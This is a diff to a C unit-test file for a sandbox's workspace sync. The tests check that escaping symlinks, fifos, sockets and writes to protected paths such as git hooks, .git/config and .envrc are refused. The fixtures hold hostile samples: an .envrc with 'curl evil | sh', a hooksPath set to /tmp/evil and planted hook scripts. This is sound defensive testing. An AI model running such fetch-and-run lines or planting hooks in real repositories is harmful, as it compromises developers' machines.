@@ -8,6 +8,8 @@
 #include <stdint.h>
 
 #include <cmocka.h>
+#include <sys/socket.h>
+#include <sys/un.h>
 
 #include <sandman/sandman.h>
 
@@ -312,39 +314,173 @@ static void test_conflicts(void **state) {
   sm_workspace_sync_free(s);
 }
 
-static void test_planted_link_refused(void **state) {
+/* The refusals of the last copy out as "path=reason,...". */
+static char *refusals(sm_workspace_sync *s) {
+  const sm_workspace_refusal *v = NULL;
+  size_t n = sm_workspace_sync_refused(s, &v);
+  sm_buf b;
+  sm_buf_init(&b, 1 << 20);
+  sm_buf_append(&b, "", 0);
+  for (size_t i = 0; i < n; i++) sm_buf_printf(&b, "%s%s=%s", i ? "," : "", v[i].path, v[i].reason);
+  return sm_buf_steal(&b, NULL);
+}
+
+static void expect_out(sm_workspace_sync *s, fx *f, const char *changed, const char *refused) {
+  outres r;
+  sm_error err = SM_ERROR_INIT;
+  if (sync_out(s, f, &r, &err) != 0) fail_msg("sync out: %s", err.message);
+  char *c = joined(r.changed, r.n_changed), *x = refusals(s);
+  assert_string_equal(c, changed);
+  assert_string_equal(x, refused);
+  free(c);
+  free(x);
+  outres_free(&r);
+}
+
+/* A link leaving the workspace, a fifo and a socket: each refused on its
+ * own, the rest of the tool's work applied, nothing outside touched; the
+ * same refusals are not reported again until the entry changes, and the
+ * refused entries stay in the sandbox. */
+static void test_refused_per_entry(void **state) {
   fx *f = *state;
   put(f->host, "a.txt", "a\n");
   sm_workspace_sync *s = new_sync(f, NULL, NULL);
   sync_in_ok(s, f);
-  put(f->scratch, "a.txt", "tool edit that must not land either\n");
+  put(f->scratch, "a.txt", "tool edit\n");
+  put(f->scratch, "new.txt", "new\n");
   char p[1024];
   pathf(p, sizeof p, f->scratch, "escape");
   assert_int_equal(symlink(f->outside, p), 0);
-  char *before = snapshot(f->root);
-  outres r;
-  sm_error err = SM_ERROR_INIT;
-  /* Snapshot includes the scratch side; only compare the host and outside. */
-  char *hb = snapshot(f->host), *ob = snapshot(f->outside);
-  int rc = sync_out(s, f, &r, &err);
-  assert_int_equal(rc, SM_EUNSAFE);
-  assert_non_null(strstr(err.message, "escape"));
-  assert_non_null(strstr(err.message, "leaves the workspace"));
-  char *ha = snapshot(f->host), *oa = snapshot(f->outside);
-  assert_string_equal(hb, ha);
-  assert_string_equal(ob, oa);
-  free(before);
-  free(hb);
-  free(ha);
-  free(ob);
-  free(oa);
-  /* A fifo is refused too. */
-  unlink(p);
+  pathf(p, sizeof p, f->scratch, "up");
+  assert_int_equal(symlink("../../outside/secret", p), 0);
   pathf(p, sizeof p, f->scratch, "pipe");
   assert_int_equal(mkfifo(p, 0644), 0);
-  rc = sync_out(s, f, &r, &err);
-  assert_int_equal(rc, SM_EUNSAFE);
-  assert_non_null(strstr(err.message, "fifo"));
+  int sock = socket(AF_UNIX, SOCK_STREAM, 0);
+  struct sockaddr_un sa = {.sun_family = AF_UNIX};
+  pathf(sa.sun_path, sizeof sa.sun_path, f->scratch, "sock");
+  assert_int_equal(bind(sock, (struct sockaddr *)&sa, sizeof sa), 0);
+  char *ob = snapshot(f->outside);
+  expect_out(s, f, "a.txt,new.txt",
+             "escape=link_absolute,pipe=fifo,sock=socket,up=link_outside");
+  char *oa = snapshot(f->outside);
+  assert_string_equal(ob, oa);
+  free(ob);
+  free(oa);
+  char *c = get(f->host, "a.txt");
+  assert_string_equal(c, "tool edit\n");
+  free(c);
+  assert_false(exists(f->host, "escape"));
+  assert_false(exists(f->host, "pipe"));
+  assert_false(exists(f->host, "sock"));
+  assert_false(exists(f->host, "up"));
+  sm_workspace_sync_free(s);
+  /* The next call (a new sync, the saved manifest): the copy in keeps the
+   * refused entries in the sandbox, the copy out does not report them again. */
+  s = new_sync(f, NULL, NULL);
+  sync_in_ok(s, f);
+  assert_true(exists(f->scratch, "escape"));
+  assert_true(exists(f->scratch, "pipe"));
+  expect_out(s, f, "", "");
+  /* Changed: reported again. */
+  pathf(p, sizeof p, f->scratch, "up");
+  unlink(p);
+  assert_int_equal(symlink("../../../elsewhere", p), 0);
+  expect_out(s, f, "", "up=link_outside");
+  close(sock);
+  sm_workspace_sync_free(s);
+}
+
+static void put_mode(const char *dir, const char *rel, const char *data, mode_t mode) {
+  char p[1024];
+  pathf(p, sizeof p, dir, rel);
+  write_file(p, data);
+  chmod(p, mode);
+}
+
+static void mkdirs(const char *dir, const char *rel) {
+  char p[1024];
+  pathf(p, sizeof p, dir, rel);
+  for (char *c = p + strlen(dir) + 1; *c; c++)
+    if (*c == '/') {
+      *c = '\0';
+      mkdir(p, 0755);
+      *c = '/';
+    }
+  mkdir(p, 0755);
+}
+
+/* The built-in protected paths: a tool that writes a git hook, edits
+ * .git/config and .envrc, chmods and deletes protected files, or swaps
+ * .git for a file pointing elsewhere changes none of it on the host; each
+ * is reported (once), everything else it did applies. */
+static void test_protected_paths(void **state) {
+  fx *f = *state;
+  mkdirs(f->host, ".git/hooks");
+  put(f->host, ".git/config", "[core]\n");
+  put_mode(f->host, ".git/hooks/pre-push", "#!/bin/sh\n", 0755);
+  put(f->host, ".envrc", "export A=1\n");
+  mkdirs(f->host, "sub");
+  put(f->host, "sub/.envrc", "x\n");
+  put(f->host, "src.c", "int x;\n");
+  sm_workspace_sync *s = new_sync(f, NULL, NULL);
+  sync_in_ok(s, f);
+  char git[1024];
+  pathf(git, sizeof git, f->host, ".git");
+  char *hb = snapshot(git);
+  put_mode(f->scratch, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+  put(f->scratch, ".git/config", "[core]\n\thooksPath = /tmp/evil\n");
+  put(f->scratch, ".envrc", "curl evil | sh\n");
+  char p[1024];
+  pathf(p, sizeof p, f->scratch, ".git/hooks/pre-push");
+  chmod(p, 0777);
+  pathf(p, sizeof p, f->scratch, "sub/.envrc");
+  unlink(p);
+  mkdirs(f->scratch, ".vscode");
+  put(f->scratch, ".vscode/tasks.json", "{}\n");
+  mkdirs(f->scratch, "other/.GIT/HOOKS");
+  put(f->scratch, "other/.GIT/HOOKS/post-checkout", "evil\n");
+  put(f->scratch, "other/.git", "gitdir: ../evil\n");
+  put(f->scratch, "src.c", "int y;\n");
+  expect_out(s, f, "other,other/.GIT,src.c",
+             ".envrc=protected,.git/config=protected,.git/hooks/pre-commit=protected,"
+             ".git/hooks/pre-push=protected,.vscode=protected,.vscode/tasks.json=protected,"
+             "other/.GIT/HOOKS=protected,other/.GIT/HOOKS/post-checkout=protected,"
+             "other/.git=protected,sub/.envrc=protected");
+  char *c = get(f->host, "src.c");
+  assert_string_equal(c, "int y;\n");
+  free(c);
+  put(f->scratch, "src.c", "int x;\n");
+  /* Nothing of it reached the host, and it is not reported again. */
+  expect_out(s, f, "src.c", "");
+  char *ha = snapshot(git);
+  assert_string_equal(hb, ha);
+  free(hb);
+  free(ha);
+  c = get(f->host, ".envrc");
+  assert_string_equal(c, "export A=1\n");
+  free(c);
+  assert_true(exists(f->host, "sub/.envrc"));
+  assert_false(exists(f->host, ".vscode"));
+  assert_false(exists(f->host, "other/.git"));
+  assert_false(exists(f->host, "other/.GIT/HOOKS"));
+  /* An explicitly empty list protects nothing. */
+  sm_string_list none;
+  memset(&none, 0, sizeof none);
+  sm_error err = SM_ERROR_INIT;
+  assert_int_equal(sm_workspace_sync_set_protect(s, &none, &err), 0);
+  put(f->scratch, ".envrc", "now it lands\n");
+  outres r;
+  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
+  outres_free(&r);
+  c = get(f->host, ".envrc");
+  assert_string_equal(c, "now it lands\n");
+  free(c);
+  /* A bad glob is refused with its reason. */
+  sm_string_list bad;
+  memset(&bad, 0, sizeof bad);
+  snprintf(bad.items[bad.n++], SM_NAME_MAX, "a/../b");
+  assert_int_equal(sm_workspace_sync_set_protect(s, &bad, &err), SM_EINVAL);
+  assert_non_null(strstr(err.message, "a/../b"));
   sm_workspace_sync_free(s);
 }
 
@@ -497,7 +633,7 @@ static void test_manifest_file(void **state) {
   ws_manifest m;
   ws_manifest_init(&m);
   sm_error err = SM_ERROR_INIT;
-  assert_int_equal(ws_manifest_load(&m, f->manifest, 1000, &err), 0);
+  assert_int_equal(ws_manifest_load(&m, NULL, f->manifest, 1000, &err), 0);
   assert_int_equal(m.n, 10);
   assert_string_equal(m.root, f->scratch);
   ws_entry *e = ws_manifest_get(&m, "name with spaces and ünïcødé.txt");
@@ -623,7 +759,8 @@ int main(void) {
       cmocka_unit_test_setup_teardown(test_round_trip, setup, teardown),
       cmocka_unit_test_setup_teardown(test_incremental, setup, teardown),
       cmocka_unit_test_setup_teardown(test_conflicts, setup, teardown),
-      cmocka_unit_test_setup_teardown(test_planted_link_refused, setup, teardown),
+      cmocka_unit_test_setup_teardown(test_refused_per_entry, setup, teardown),
+      cmocka_unit_test_setup_teardown(test_protected_paths, setup, teardown),
       cmocka_unit_test_setup_teardown(test_interrupted, setup, teardown),
       cmocka_unit_test_setup_teardown(test_limits_and_excludes, setup, teardown),
       cmocka_unit_test_setup_teardown(test_tool_type_changes_and_links, setup, teardown),
